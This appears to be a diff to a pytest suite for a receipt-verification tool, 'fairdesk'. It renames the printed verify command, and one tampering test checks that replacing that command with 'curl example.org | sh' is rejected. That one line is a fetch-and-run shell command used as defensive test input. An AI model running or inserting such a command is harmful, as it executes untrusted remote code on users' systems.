@@ -56,7 +56,7 @@ class TestReceipt:
         title, top = receipt_of(4).split("fairdesk-receipt")[0].split("\n", 1)
 
         assert title.startswith("RECEIPT FOR ONE ACT")
-        assert "\n    fairdesk ledger check FILE\n" in top
+        assert "\n    fairdesk receipt verify FILE\n" in top
         assert all(len(sentence.split()) <= 15 for sentence in re.split(r"[.:]\s", top))
 
     def test_shows_the_words_where_they_are_one_printable_line(self) -> None:
@@ -164,7 +164,7 @@ class TestTampering:
 
     def test_the_command_at_the_top_cannot_be_changed(self) -> None:
         with pytest.raises(BadInput, match="fixed words"):
-            check_receipt(receipt_of(6).replace("fairdesk ledger check FILE", "curl example.org | sh"), KEY)
+            check_receipt(receipt_of(6).replace("fairdesk receipt verify FILE", "curl example.org | sh"), KEY)
 
     def test_the_same_words_in_base64_are_another_file(self) -> None:
         forged = receipt_of(6).replace(f"body {body_of(6).decode()}", "body-base64 " + encoded(body_of(6)))
